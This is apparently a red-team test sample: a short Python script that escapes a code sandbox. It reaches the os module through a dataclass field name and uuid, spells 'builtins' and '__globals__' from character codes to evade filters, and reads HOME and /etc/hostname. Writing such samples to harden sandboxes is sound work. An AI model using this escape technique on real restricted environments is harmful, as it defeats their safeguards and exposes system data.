# family: red team, round 65b (asdict-key getattr on uuid gives os; os.sys.modules builtins getattr reads __globals__)
import dataclasses
import uuid


@dataclasses.dataclass
class Row:
    os: int = 0


def grab():
    for key in ("uuid4",):
        pass
    for key in dataclasses.asdict(Row()):
        pass
    return getattr(uuid, key)


def spell(codes):
    return "".join([chr(c) for c in codes])


m = grab()
b = m.sys.modules[spell([98, 117, 105, 108, 116, 105, 110, 115])]
g = b.getattr(grab, spell([95, 95, 103, 108, 111, 98, 97, 108, 115, 95, 95]))
print(g)
print(m.environ.get("HOME"))
print(b.open("/etc/hostname").read())
